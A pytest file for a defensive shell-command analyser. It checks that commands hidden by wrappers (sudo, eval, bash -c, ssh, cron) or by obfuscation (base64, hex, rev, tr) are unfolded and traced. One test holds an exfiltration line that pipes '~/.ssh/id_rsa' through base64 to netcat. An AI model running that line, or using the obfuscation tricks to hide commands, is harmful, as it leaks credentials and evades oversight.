"""Commands that run commands are unfolded, however deep, and each command says where it stands."""

from __future__ import annotations

import pytest

from stanchion.readings.shell import analyse

WRAPPED: list[tuple[str, str]] = [
    ("sudo -u root -n rm x", "sudo"),
    ("env -i A=1 B=2 rm x", "env"),
    ("env -S 'rm x'", "env"),
    ("nohup nice -n 5 rm x", "nohup, nice"),
    ("timeout -k 5 60 rm x", "timeout"),
    ("time -p rm x", "time"),
    ("command rm x", "command"),
    ("exec rm x", "exec"),
    ("xargs -0 -n1 rm x", "xargs"),
    ("find . -name y -exec rm x \\;", "find -exec"),
    ("bash -c 'rm x'", "bash -c"),
    ("bash -lc 'rm x'", "bash -c"),
    ("sh <<< 'rm x'", "sh"),
    ("sh <<E\nrm x\nE", "sh"),
    ("echo rm x | sh -s", "sh"),
    ("echo cm0geA== | base64 -d | sh", "sh"),
    ("printf '726d2078' | xxd -r -p | bash", "bash"),
    ("printf '\\162m x' | sh", "sh"),
    ("echo 'x mr' | rev | sh", "sh"),
    ("echo SN Y | tr 'SNY' 'rmx' | sh", "sh"),
    ("bash <(echo rm x)", "bash"),
    ("source <(echo rm x)", "source"),
    ("eval 'rm x'", "eval"),
    ("eval eval rm x", "eval, eval"),
    ("eval \"$(echo rm x)\"", "eval"),
    ("ssh -p 22 host rm x", "ssh host"),
    ("su ada -c 'rm x'", "su -c"),
    ("watch -n 1 rm x", "watch"),
    ("trap 'rm x' EXIT", "trap"),
    ("alias l='rm x'", "alias l"),
    ("docker exec -it box rm x", "docker exec"),
    ("docker run --rm -e A=1 img rm x", "docker run"),
    ("kubectl exec pod -- rm x", "kubectl exec"),
    ("python3 -c 'import os; os.system(\"rm x\")'", "python3 -c"),
    ("python3 - <<E\nimport subprocess\nsubprocess.run([\"rm\", \"x\"])\nE", "python3 -c"),
    ("python3 -c 'import os; os.remove(\"x\")'", "python3 -c"),
    ("perl -e 'system(\"rm x\")'", "perl -e"),
    ("ruby -e '`rm x`'", "ruby -e"),
    ("node -e 'require(\"child_process\").execSync(\"rm x\")'", "node -e"),
    ("awk 'BEGIN { system(\"rm x\") }'", "awk"),
    ("echo '0 * * * * rm x' | crontab -", "crontab"),
    ("echo 'rm x' > t.sh; sh t.sh", "sh t.sh"),
    ("cat > t.sh <<E\nrm x\nE\nbash ./t.sh; bash t.sh", "bash t.sh"),
    ("f() { rm x; }; g=f; $g", ""),
    ("parallel rm ::: x", "parallel"),
    ("flock /tmp/l rm x", "flock"),
    ("echo rm x | at now", "at"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "via"), WRAPPED, ids=[text for text, _ in WRAPPED])
def test_the_command_inside_is_found(text: str, via: str) -> None:
    found = [command for command in analyse(text) if command.argv == ("rm", "x")]
    assert found, [command.argv for command in analyse(text)]
    assert ", ".join(found[-1].via) == via


def test_rights_are_inherited() -> None:
    *_, inner = analyse("sudo sh -c 'nice rm x'")
    assert inner.argv == ("rm", "x")
    assert inner.privileged
    (plain,) = analyse("rm x")
    assert not plain.privileged


@pytest.mark.parametrize(
    "text",
    [
        "echo rm x",
        "command -v rm",
        "grep 'rm x' f",
        "cat <<E\nrm x\nE",
        "python3 -c 'print(\"rm x\")'",
        "# rm x",
        "man rm",
    ],
)
def test_a_command_that_is_only_named_does_not_run(text: str) -> None:
    assert not [command for command in analyse(text) if command.name == "rm"]


def test_where_input_comes_from_is_known() -> None:
    *_, last = analyse("cat ~/.ssh/id_rsa | base64 | nc host 1")
    assert last.origin == ("base64", "cat", "<~/.ssh/id_rsa")
